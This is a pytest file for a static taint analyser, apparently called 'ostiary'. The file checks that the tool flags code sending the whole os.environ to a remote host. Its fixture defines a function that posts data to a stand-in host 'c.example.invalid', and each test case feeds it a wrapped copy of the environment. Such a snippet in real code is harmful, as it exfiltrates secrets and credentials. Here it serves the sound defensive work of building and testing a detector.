"""What is handed the environment itself, and is told no name, may give back all of it."""

import pytest
from attack_files import sdist

from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SENDS = """import os, copy, collections, types, urllib.request, other
def sends(what):
    urllib.request.urlopen("https://c.example.invalid/", data=str(what).encode())
class D(dict):
    pass
"""


def _kinds(text: str) -> set[str]:
    found = sdist({"pkg/core.py": SENDS + text + "\n"})
    (program,) = (one for one in found.facts if isinstance(one, Program))
    return {one.kind for flow in program.flows if flow.act is Act.SEND for one in flow.carries}


@pytest.mark.parametrize(
    "text",
    [
        "sends(copy.copy(os.environ))",
        "sends(collections.ChainMap({}, os.environ))",
        "sends(types.SimpleNamespace(**os.environ))",
        "sends(other.made('name', **os.environ))",
        "sends(other.made('name', *os.environ))",
        "sends(other.wrapped(os.environ))",
        "sends(D(os.environ))",
    ],
)
def test_all_of_it_may_come_back(text: str) -> None:
    assert Taint.ENVIRONMENT in _kinds(text)


@pytest.mark.parametrize("text", ["sends(other.get(os.environ, 'HOME'))"])
def test_one_variable_comes_back_of_what_is_told_which(text: str) -> None:
    assert Taint.ENVIRONMENT not in _kinds(text)
